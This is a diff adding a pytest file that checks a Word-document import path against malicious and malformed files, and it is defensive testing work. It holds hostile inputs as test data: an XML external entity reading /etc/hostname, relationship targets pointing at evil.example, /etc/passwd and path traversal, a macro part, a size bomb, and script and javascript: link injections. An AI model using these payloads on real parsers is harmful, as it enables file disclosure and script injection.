@@ -1,0 +1,154 @@
+"""Hostile and broken Word files: each is refused with a sentence, and nothing outside them is ever read."""
+
+import io
+import zipfile
+from typing import Any
+
+import pytest
+from lxml import etree
+
+from core.exceptions import InvalidInput
+from reviews.exchange.identity import Identity, read_identity
+from reviews.exchange.layout import expected_places
+from reviews.exchange.opening import open_docx
+from reviews.exchange.reading import read_file
+from reviews.exchange.writing import write_docx
+from tests.reviews.test_word_fields import DIAGNOSIS, IDENTITY, content, read, usual_of
+from tests.reviews.word_files import edited, paragraph, replace, typed, w, with_parts
+
+
+def made() -> bytes:
+    return write_docx(content(), IDENTITY)
+
+
+def archive(parts: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed:
+        for name, words in parts.items():
+            packed.writestr(name, words)
+    return buffer.getvalue()
+
+
+def raw(part: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(made())) as packed:
+        return packed.read(part)
+
+
+ENTITY = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]><d>&x;</d>'
+
+
+@pytest.mark.parametrize(
+    "file",
+    [
+        b"",
+        b"%PDF-1.7 no document",
+        archive({"hello.txt": b"hello"}),
+        archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}),
+        with_parts(made(), {"word/document.xml": b"<w:document"}),
+        with_parts(made(), {"word/document.xml": b"<html/>"}),
+        with_parts(made(), {"word/document.xml": ENTITY}),
+        with_parts(made(), {"word/comments.xml": ENTITY}),
+        with_parts(made(), {"docProps/custom.xml": ENTITY}),
+        with_parts(made(), {"word/styles.xml": b"<w:styles>" + b"a" * 13_000_000}),
+        with_parts(made(), {"word/document.xml": raw("word/document.xml").decode().encode("utf-16")}),
+        with_parts(made(), {"_rels/.rels": b"<Relationships/>"}),
+    ],
+    ids=["empty", "pdf", "zip", "bare", "cut", "html", "entity", "entity-in-comments", "entity-in-properties", "bomb",
+         "utf-16", "no-relations"],
+)  # fmt: skip
+def test_what_is_no_honest_document_is_refused(file: bytes) -> None:
+    with pytest.raises(InvalidInput) as refusal:
+        read_whole(file)
+    assert str(refusal.value)
+
+
+def read_whole(file: bytes) -> None:
+    read(file, content())
+    read_identity(open_docx(file).properties())
+
+
+def test_tables_in_tables_without_end_are_refused() -> None:
+    def change(root: Any) -> None:
+        place = root.find(w("body"))
+        for _depth in range(120):
+            place = etree.SubElement(etree.SubElement(etree.SubElement(place, w("tbl")), w("tr")), w("tc"))
+
+    with pytest.raises(InvalidInput):
+        read(edited(made(), change), content())
+
+
+def test_macros_pictures_and_outside_parts_are_never_read() -> None:
+    def outside(root: Any) -> None:
+        space = etree.QName(root).namespace
+        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+        for number, (name, target) in enumerate(
+            [("attachedTemplate", "https://evil.example/t.dotm"), ("comments", "https://evil.example/c.xml"),
+             ("image", "file:///etc/passwd"), ("styles", "../../../etc/passwd")]
+        ):  # fmt: skip
+            etree.SubElement(
+                root, f"{{{space}}}Relationship", Id=f"evil{number}", Type=f"{kind}/{name}", Target=target,
+                TargetMode="External" if "://" in target else "Internal",
+            )  # fmt: skip
+
+    file = edited(made(), outside, "word/_rels/document.xml.rels")
+    file = with_parts(file, {"word/vbaProject.bin": b"\x00macro"})
+    back = read(file, content(), usual_of(content()))
+    assert back.html == usual_of(content()).html
+
+
+def test_words_and_links_are_cleaned() -> None:
+    def change(root: Any) -> None:
+        replace("Między", "<script>alert(1)</script>")(root)
+        link = etree.Element(w("hyperlink"))
+        link.set("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id", "evil")
+        link.append(typed("klik"))
+        paragraph(root, "Koniec.").append(link)
+
+    def relate(root: Any) -> None:
+        space = etree.QName(root).namespace
+        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+        etree.SubElement(
+            root, f"{{{space}}}Relationship", Id="evil", Type=kind, Target="javascript:alert(1)", TargetMode="External"
+        )
+
+    file = edited(edited(made(), change), relate, "word/_rels/document.xml.rels")
+    html = read(file, content(), usual_of(content())).html[DIAGNOSIS]
+    assert "<script" not in html
+    assert "&lt;script&gt;" in html
+    assert "javascript:" not in html
+    assert "klik" in html
+
+
+def test_bookmarks_that_lie_are_harmless() -> None:
+    """Doubled, crossed, unended and foreign marks: nothing breaks, and words that lost their field are listed."""
+
+    def change(root: Any) -> None:
+        body = root.find(w("body"))
+        marks = list(body.iter(w("bookmarkStart")))
+        for mark in marks[::3]:
+            mark.set(w("id"), "777")
+        for mark in marks[1::3]:
+            body.append(etree.fromstring(etree.tostring(mark)))
+        for number in range(20):
+            foreign = etree.SubElement(body, w("bookmarkStart"))
+            foreign.set(w("name"), f"pole_{number:028d}")
+            foreign.set(w("id"), str(5000 + number))
+
+    found = content()
+    back = read_file(open_docx(edited(made(), change)), expected_places(found), usual_of(found))
+    assert back.foreign == 20
+
+
+@pytest.mark.parametrize("name", ["PortalDocument", "PortalVersion", "PortalContentHash", "PortalSignature"])
+def test_every_word_of_the_origin_is_signed(name: str) -> None:
+    identity = Identity("a", 3, 0, "h", "pl")
+
+    def forge(root: Any) -> None:
+        for one in root:
+            if one.get("name") == name:
+                one[0].text = "9"
+
+    file = write_docx(content(), identity)
+    assert read_identity(open_docx(file).properties()) == identity
+    with pytest.raises(InvalidInput):
+        read_identity(open_docx(edited(file, forge, "docProps/custom.xml")).properties())
